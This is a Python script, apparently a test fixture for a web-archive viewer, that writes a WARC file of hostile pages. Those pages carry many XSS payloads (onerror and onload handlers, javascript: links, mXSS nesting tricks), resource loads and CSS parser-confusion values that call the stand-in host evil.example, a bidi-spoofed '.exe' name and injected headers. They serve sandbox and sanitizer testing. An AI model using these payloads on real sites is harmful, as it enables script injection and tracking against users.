"""An archive that tries to run code, to load from the network and to break the page out of its bounds."""

from __future__ import annotations

import base64
import hashlib

HOST = "http://evil.example"
SCRIPT = "<script>window.top.hacked=1;fetch('%s/fetched')</script>" % HOST
PAGE = f"""<!doctype html><html manifest="{HOST}/manifest"><head><base href="{HOST}/base/"><meta http-equiv="refresh" \
content="0;url={HOST}/refreshed">
<meta http-equiv="Content-Security-Policy" content="default-src *"><link rel="preload" as="image" \
href="{HOST}/preload"><link rel="dns-prefetch" href="//evil.example">
<link rel="stylesheet" href="{HOST}/style.css"><style>@import "{HOST}/import.css"; body {{ background: \
url({HOST}/background.png) }} @function --f() {{ result: "{HOST}/function" }} p {{ mask: image-set(--f() 1x); \
list-style: image-set(if(else: "{HOST}/if") 1x) }} @font-face {{ font-family: x; \
src: url({HOST}/font.woff) }} p {{ font-family: x }}</style>
{SCRIPT}<script src="{HOST}/script.js"></script></head>
<body onload="window.top.hacked=2" background="{HOST}/body.png"><p style="background-image:url('{HOST}/style.png')">\
text</p>
<img src="x" onerror="window.top.hacked=3"><img src="{HOST}/picture.png" srcset="{HOST}/set.png 2x"><svg \
onload="window.top.hacked=4"><image href="{HOST}/svg.png"/><script>top.hacked=5</script><use href="{HOST}/use.svg#a"/>\
</svg>
<iframe src="{HOST}/frame"></iframe><iframe srcdoc="{SCRIPT}"></iframe><object data="{HOST}/object"></object><embed \
src="{HOST}/embed"><video src="{HOST}/video" poster="{HOST}/poster"></video><audio src="{HOST}/audio" autoplay></audio>
<form action="{HOST}/form"><input type="image" src="{HOST}/button.png"><button formaction="javascript:top.hacked=6">\
go</button></form>
<a href="javascript:top.hacked=7" ping="{HOST}/ping">run</a><a href="{HOST}/away" target="_top">away</a>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hacked=8&gt;"></table>\
</mtext></math>
<noscript><p title="</noscript><img src=x onerror=top.hacked=9>"></noscript><template><img src={HOST}/template \
onerror=top.hacked=10></template>
<marquee onstart="top.hacked=11">m</marquee><details open ontoggle="top.hacked=12">d</details></body></html>"""
PICTURE = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="top.hacked=20" width="90" height="40"><script>\
top.hacked=21;fetch('{HOST}/svg')</script>
<image href="{HOST}/inner.png" width="9" height="9"/><foreignObject width="9" height="9"><body \
xmlns="http://www.w3.org/1999/xhtml"><img src="{HOST}/foreign.png"/></body></foreignObject><rect width="80" \
height="30" fill="teal"/></svg>"""
# Styles that browsers don't load from, but might if they were written anew by the letter.
PROPERTIES = (
    "background-image filter clip-path mask mask-image border-image-source list-style-image cursor content offset-path "
    "shape-outside marker-start fill stroke backdrop-filter -webkit-box-reflect"
).split()
VALUES = (
    "src(//evil.example/%s)",
    f"SRC({HOST}/%s)",
    "image-set(src(//evil.example/%s) 1x)",
    "<!--url(//evil.example/%s)",
    "1type('//evil.example/%s')",
    "u@import 'x';rl(//evil.example/%s)",
    "u@namespace 'x';rl(//evil.example/%s)",
    "\\75rl(//evil.example/%s)",
    "url(x y) url(//evil.example/%s)",
)
RULES = "".join(
    f".s{number}{{--x:{value % 'variable'};{name}:{value % name};{name}:var(--x)}}"
    for number, (name, value) in enumerate((name, value) for name in PROPERTIES for value in VALUES)
)
OPEN = "a{content:',all{p{background:url(//evil.example/open)}}'}"  # after a text that isn't at its end
STYLES = f"""<!doctype html><style>@import '/open.css' "
;{RULES}@font-face{{font-family:f;src:src({HOST}/font)}}p{{font-family:f}}</style>
{"".join(f'<p class=s{number}>x' for number in range(len(PROPERTIES) * len(VALUES)))}
<svg>{"".join(f'<rect width=9 height=9 fill="{it % "fill"}" mask="{it % "mask"}" style="fill:{it % "style"}"/>'
              for it in VALUES)}</svg>"""
MARK = '"><img src=x onerror=top.hacked=30><script>top.hacked=31</script>'
BIDI = "\u202e\u2066gnp.exe\u2069\u202c\u200f"
NAMES = [
    ("http://a.example/page", "text/html", PAGE),
    ("http://a.example/page", "text/html; charset=" + MARK.replace("<", "").replace(">", ""), PAGE + "again"),
    (f"http://a.example/{MARK}", "text/html", SCRIPT),
    ("javascript:top.hacked=32", "text/html", SCRIPT),
    ("data:text/html,<script>top.hacked=33</script>", "text/html", SCRIPT),
    ("http://a.example/" + "long" * 15000, "text/plain", "a target of 60 KB"),
    ("http://a.example/" + BIDI + "/" + "\u0430" * 50, "text/plain", BIDI * 20),
    ("http://a.example/picture.svg", "image/svg+xml", PICTURE),
    ("http://a.example/script.js", "text/javascript", "top.hacked=40"),
    (
        "http://a.example/x.xhtml",
        "application/xhtml+xml",
        '<html xmlns="http://www.w3.org/1999/xhtml"><body onload="top.hacked=41"><script>top.hacked=42</script>'
        "</body></html>",
    ),
    (
        "http://a.example/frames",
        "text/html",
        f'<frameset onload="top.hacked=43"><frame src="{HOST}/frame1"><frame src="javascript:top.hacked=44">'
        "</frameset>",
    ),
    ("http://a.example/none", "", SCRIPT),
    ("http://a.example/odd", "text/html\u2028" + MARK, SCRIPT),
    ("http://a.example/styles", "text/html", STYLES),
    ("http://a.example/open.css", "text/css", OPEN),
    ("http://[", "text/html", '<link rel=stylesheet href="http://["><img src="//["><a href="http://[">x</a>'),
]


def digest(block: bytes) -> str:
    return base64.b32encode(hashlib.sha1(block).digest()).decode()


def record(number: int, target: str, kind: str, block: bytes, date: str) -> bytes:
    fields = [
        ("WARC-Type", kind),
        (
            "WARC-Record-ID",
            f"<urn:x:{number}:<script>top.hacked=50</script>>".replace("<s", "(s")
            .replace("t>", "t)")
            .replace("</", "(/"),
        ),
        ("WARC-Date", date),
        ("WARC-Target-URI", target),
        ("Content-Type", "application/http;msgtype=response"),
        ("X-Mark", MARK),
        ("WARC-Block-Digest", f"sha1:{digest(block)}"),
        ("Content-Length", str(len(block))),
    ]
    head = "WARC/1.1\r\n" + "".join(f"{name}: {value}\r\n" for name, value in fields) + "\r\n"
    return head.encode() + block + b"\r\n\r\n"


def make(path: str) -> None:
    """Writes the archive."""
    with open(path, "wb") as out:
        for number, (target, kind, body) in enumerate(NAMES):
            field = f"Content-Type: {kind}\r\n" if kind else ""
            block = (
                f"HTTP/1.1 200 {MARK}\r\n{field}Refresh: 0;url={HOST}/header\r\nLink: <{HOST}/header.css>; "
                f"rel=stylesheet\r\nX: {MARK}\r\n\r\n{body}"
            ).encode()
            out.write(record(number, target, "response", block, f"2026-01-01T00:00:{number:02}Z"))
        out.write(
            record(
                98,
                "http://a.example/moved",
                "response",
                f"HTTP/1.1 302 Found\r\nLocation: javascript:top.hacked=60\r\n\r\n".encode(),
                "2026-01-02",
            )
        )
        out.write(record(99, "http://a.example/meta", "metadata", MARK.encode(), "2026-01-02"))


if __name__ == "__main__":
    import sys

    make(sys.argv[1])
